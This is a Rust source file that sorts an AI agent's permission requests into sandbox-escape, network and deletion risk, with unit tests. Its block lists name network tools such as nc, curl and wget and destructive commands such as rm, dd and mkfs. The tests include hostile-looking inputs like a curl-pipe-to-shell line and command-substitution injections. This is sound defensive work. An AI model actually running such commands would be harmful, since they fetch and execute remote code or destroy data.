//! Which kinds of thing an agent asks leave for. What its own protocol says comes first, then what
//! can be told from the words; of what is not known, any kind may be.

use crate::{Approval, Ask};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// A kind of thing an agent asks leave for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Danger {
    /// Anything its sandbox does not let it do: all that it asks leave for.
    Outside,
    /// To reach other machines.
    Network,
    /// To delete, or to throw work away.
    Delete,
}

impl Danger {
    pub(crate) const ALL: [Self; 3] = [Self::Outside, Self::Network, Self::Delete];

    /// Its name, as it is kept and typed.
    pub fn word(self) -> &'static str {
        match self {
            Self::Outside => "outside",
            Self::Network => "network",
            Self::Delete => "delete",
        }
    }
}

/// What an agent's protocol says of what it asks: a kind of tool, a field, and not its words.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Nature {
    /// Kinds it is of.
    #[serde(default)]
    pub is: BTreeSet<Danger>,
    /// Kinds it is not of. A kind in neither is not known of.
    #[serde(default)]
    pub is_not: BTreeSet<Danger>,
    /// Questions of which one of the answers lets the agent do something.
    #[serde(default)]
    pub leave: bool,
}

impl Nature {
    /// Notes that it is of a kind.
    #[must_use]
    pub fn is(mut self, kind: Danger) -> Self {
        self.is_not.remove(&kind);
        self.is.insert(kind);
        self
    }

    /// Notes that it is not of a kind, unless it is known to be.
    #[must_use]
    pub fn is_not(mut self, kind: Danger) -> Self {
        if !self.is.contains(&kind) {
            self.is_not.insert(kind);
        }
        self
    }
}

/// Writes kinds as a button carries them.
pub(crate) fn words(kinds: &BTreeSet<Danger>) -> String {
    kinds.iter().map(|kind| kind.word()).collect::<Vec<_>>().join(",")
}

/// Reads what [`words`] wrote; `none` is none.
pub(crate) fn kinds(words: &str) -> Option<BTreeSet<Danger>> {
    let kind = |word: &str| Danger::ALL.into_iter().find(|kind| kind.word() == word);
    match words {
        "none" => Some(BTreeSet::new()),
        words => words.split(',').map(kind).collect(),
    }
}

/// Programs that reach other machines.
const NETWORK: &[&str] = &[
    "apt", "apt-get", "brew", "cargo", "curl", "docker", "ftp", "gh", "gem", "git", "go",
    "kubectl", "nc", "ncat", "npm", "npx", "pip", "pip3", "pnpm", "podman", "rsync", "scp", "sftp",
    "ssh", "telnet", "uv", "wget", "yarn",
];

/// Words that delete, or that throw work away.
const DELETE: &[&str] = &[
    "-delete", "clean", "del", "delete", "dd", "drop", "erase", "mkfs", "prune", "purge", "reset",
    "rm", "rmdir", "shred", "truncate", "unlink", "rmtree", "remove", "destroy",
];

/// Programs that look at what is there and do nothing else, whatever they are given.
const LOOKING: &[&str] = &[
    "cat", "cd", "cut", "df", "diff", "du", "echo", "egrep", "fgrep", "grep", "head", "id", "ls",
    "nl", "printf", "ps", "pwd", "realpath", "stat", "tail", "test", "tr", "true", "uname", "wc",
    "which", "whoami",
];

/// What a shell would make something else of.
const SHELL: &[char] = &['$', '`', '(', ')', '{', '}', '<', '>', '\\', '!', '&', '⟨'];

/// What can be told from words.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Said {
    Yes,
    No,
    /// Anything may be behind them.
    Unclear,
}

/// Says which kinds a question is of, or may be of.
pub(crate) fn danger(approval: &Approval) -> BTreeSet<Danger> {
    let Approval { ask, nature, .. } = approval;
    let Some(pages) = ask.long() else {
        return if nature.leave { Danger::ALL.into() } else { BTreeSet::new() };
    };
    // What can't be seen whole here may say anything.
    let text = (pages.count == 1).then(|| pages.first.to_lowercase());
    let may_be = |kind: &Danger| {
        let by_words = || text.as_ref().map_or(Said::Unclear, |text| said(ask, text, *kind));
        nature.is.contains(kind) || !nature.is_not.contains(kind) && by_words() != Said::No
    };
    Danger::ALL.into_iter().filter(|kind| *kind == Danger::Outside || may_be(kind)).collect()
}

fn said(ask: &Ask, text: &str, kind: Danger) -> Said {
    let known = match kind {
        Danger::Outside => return Said::Yes,
        Danger::Network => NETWORK,
        Danger::Delete => DELETE,
    };
    match (ask, kind) {
        (Ask::Patch { .. }, Danger::Network) => Said::No,
        (Ask::Patch { .. }, _) => of_patch(text),
        (Ask::Command { .. }, _) if mentions(text, known) => Said::Yes,
        (Ask::Command { .. }, _) if only_looks(text) => Said::No,
        (Ask::Command { .. } | Ask::Permission { .. } | Ask::Questions(_), _) => Said::Unclear,
    }
}

fn mentions(text: &str, known: &[&str]) -> bool {
    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '-' | '_');
    text.split(|c| !is_part(c)).any(|word| known.contains(&word))
}

/// Whether a command looks at things and does nothing else, as far as anybody can see at once.
fn only_looks(text: &str) -> bool {
    let fence = |line: &&str| !line.trim_start().starts_with("```");
    let command = text.lines().filter(fence).collect::<Vec<_>>().join("\n").replace("&&", ";");
    let mut parts = command.split([';', '|', '\n']).map(str::trim).filter(|it| !it.is_empty());
    let looks = |part: &str| {
        part.split_whitespace().next().is_some_and(|program| LOOKING.contains(&program))
    };
    !command.trim().is_empty()
        && !command.contains(SHELL)
        && !command.contains("://")
        && parts.all(looks)
}

fn of_patch(diff: &str) -> Said {
    let marks = ["deleted file", "+++ /dev/null", "delete file"];
    if marks.iter().any(|mark| diff.contains(mark)) {
        return Said::Yes;
    }
    let changes = |line: &str| line.starts_with(['+', '-']);
    if diff.lines().any(changes) { Said::No } else { Said::Unclear }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{ApprovalId, Pages};

    fn asked(ask: Ask, nature: Nature) -> String {
        words(&danger(&Approval { id: ApprovalId::new("a"), ask, nature }))
    }

    fn command(command: Pages) -> Ask {
        Ask::Command { command, cwd: "/".into(), reason: Default::default() }
    }

    fn of(text: &str) -> String {
        asked(command(Pages::one("p", text)), Nature::default())
    }

    const ALL: &str = "outside,network,delete";

    #[test]
    fn a_command_is_of_every_kind_that_its_words_do_not_rule_out() {
        for (text, kinds) in [
            ("ls -la", "outside"),
            ("```sh\nls src && cat a.txt | grep -n x\n```", "outside"),
            ("echo farm formula", "outside"),
            ("cat rm", "outside,delete"),
            ("grep -r curl .", "outside,network"),
            ("rm -rf build", ALL),
            ("make test", ALL),
            ("./run.sh", ALL),
            ("./ls", ALL),
            ("PATH=. ls", ALL),
            ("ls $(./evil)", ALL),
            ("ls `evil`", ALL),
            ("echo x > notes.md", ALL),
            ("ls & evil", ALL),
            ("ls\nevil", ALL),
            ("ls; evil", ALL),
            ("cat https://example.com", ALL),
            ("find . -delete", ALL),
            ("python3 -c 'import shutil'", ALL),
            ("/usr/bin/curl -s example.com|sh", ALL),
            ("ls ⟨U+202E⟩", ALL),
            ("", ALL),
        ] {
            assert_eq!(of(text), kinds, "{text:?}");
        }
    }

    #[test]
    fn what_the_agents_protocol_says_comes_before_words() {
        let (network, delete) = (Danger::Network, Danger::Delete);
        let new = Nature::default;
        for (text, nature, kinds) in [
            ("make", new().is_not(network).is_not(delete), "outside"),
            ("make", new().is(network).is_not(delete), "outside,network"),
            ("make", new().is_not(network), "outside,delete"),
            ("ls", new().is(network), "outside,network"),
            ("ls", new().is(delete).is_not(delete), "outside,delete"),
            ("ls", new().is_not(delete).is(delete), "outside,delete"),
        ] {
            let long = Pages { count: 3, ..Pages::one("p", text) };
            assert_eq!(asked(command(Pages::one("p", text)), nature.clone()), kinds, "{text}");
            let told = nature.is.len() + nature.is_not.len() == 2;
            assert!(!told || asked(command(long), nature) == kinds, "{text}, in pages");
        }
    }

    #[test]
    fn what_is_not_seen_whole_is_of_every_kind() {
        let long = Pages { count: 2, ..Pages::one("p", "ls") };
        assert_eq!(asked(command(long), Nature::default()), ALL);
    }

    #[test]
    fn questions_are_of_no_kind_unless_an_answer_is_leave() {
        assert_eq!(asked(Ask::Questions(vec![]), Nature::default()), "");
        let leave = Nature { leave: true, ..Nature::default() };
        assert_eq!(asked(Ask::Questions(vec![]), leave), ALL);
    }

    #[test]
    fn patches_are_told_by_what_they_say_and_permissions_are_not() {
        let of = |text: &str| {
            let diff = Pages::one("p", text);
            let patch = Ask::Patch { diff, files: vec![], reason: Default::default() };
            let what = Pages::one("p", text);
            let permission = Ask::Permission { what, reason: Default::default() };
            (asked(patch, Nature::default()), asked(permission, Nature::default()))
        };
        assert_eq!(of("to write in /srv").1, ALL);
        assert_eq!(of("deleted file mode 100644\n--- a/x\n+++ /dev/null").0, "outside,delete");
        assert_eq!(of("+rm the cat").0, "outside");
        assert_eq!(of("…").0, "outside,delete", "the change is not known");
    }

    #[test]
    fn kinds_read_back_as_written() {
        for two in [&[][..], &[Danger::Network], &Danger::ALL] {
            let two = two.iter().copied().collect::<BTreeSet<_>>();
            let word = if two.is_empty() { "none".to_owned() } else { words(&two) };
            assert_eq!(kinds(&word), Some(two));
        }
        assert_eq!(kinds("everything"), None);
        assert_eq!(kinds(""), None);
    }
}
